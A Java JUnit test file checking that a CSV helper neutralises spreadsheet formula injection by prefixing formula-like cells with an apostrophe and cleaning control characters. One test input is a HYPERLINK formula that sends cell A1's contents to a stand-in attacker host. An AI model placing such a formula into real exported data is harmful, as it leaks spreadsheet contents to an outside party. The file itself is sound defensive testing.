package org.lexgap.text;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No CSV cell starts a formula. */
class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"source\")", "+1+1", "-2+3", "@SUM(A1)",
        "\tx", "\rx"})
    void prefixesAFormulaWithAnApostrophe(String cell) {
        String safe = CsvCells.safe(cell);
        assertEquals('\'', safe.charAt(0), safe);
        assertEquals(ControlCharacters.clean(cell), safe.substring(1));
    }

    @Test
    void leavesOtherCellsAloneButCleansThem() {
        assertEquals("Regulation 3 obliges = reporting", CsvCells.safe("Regulation 3 obliges = reporting"));
        assertEquals("2", CsvCells.safe("2"));
        assertEquals("", CsvCells.safe(""));
        assertEquals("bell \uFFFD here", CsvCells.safe("bell \u0007 here"));
    }
}
